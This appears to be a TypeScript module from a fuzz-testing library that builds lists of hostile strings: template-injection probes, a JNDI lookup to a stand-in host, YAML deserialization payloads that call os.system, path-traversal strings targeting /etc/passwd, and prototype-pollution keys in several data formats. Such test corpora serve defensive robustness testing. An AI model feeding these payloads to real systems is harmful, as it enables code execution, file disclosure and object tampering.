import { repeated, type HostileString } from './hostile-string';

const TEMPLATES = [
  '{{7*7}}',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '${alert(1)}',
  '`${process.exit()}`',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% for a in b %}',
  '%s%s%n%x',
  '{0}{1}{-1}',
  "$&$1$$$`$'$<a>",
  '\\1\\2\\0',
  '[[${7*7}]]',
  '@(1+1)',
  '${jndi:ldap://evil.invalid/a}',
  '%{(#a=1)}',
  '${IFS}',
  '%COMSPEC%',
  '!include /etc/passwd',
  '!!js/function "function(){}"',
  '!!python/object/apply:os.system ["id"]',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd\0.png',
  'CON',
  'NUL.txt',
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'toJSON',
  'hasOwnProperty',
  'length',
  'then',
  'undefined',
  'null',
  'NaN',
  'Infinity',
  'true',
  '__defineGetter__',
  '__lookupSetter__',
  'isPrototypeOf',
  'arguments',
  'caller',
  'name',
];

/** A name as a key, a value and a path of what tools read. */
const FORMS: readonly ((name: string) => string)[] = [
  (name) => name,
  (name) => `{"${name}":{"a":1}}`,
  (name) => `{"a":{"${name}":null},"b":"${name}"}`,
  (name) => `${name}: {a: 1}\nb: ${name}`,
  (name) => `[${name}]\na = 1\n`,
  (name) => `${name}=1&a[${name}]=2&${name}[a]=3`,
  (name) => `<${name} ${name}="${name}"><a/></${name}>`,
  (name) => `${name},b\n1,2\n`,
];

/** Templates, and the names of what every object has. */
export const names: readonly HostileString[] = [
  ...TEMPLATES.flatMap((text) => [repeated('template', text, ' '), repeated('template', `a${text}b`, '\n')]),
  ...FORMS.flatMap((form) => NAMES.map((name) => repeated('prototype', form(name), '\n'))),
];
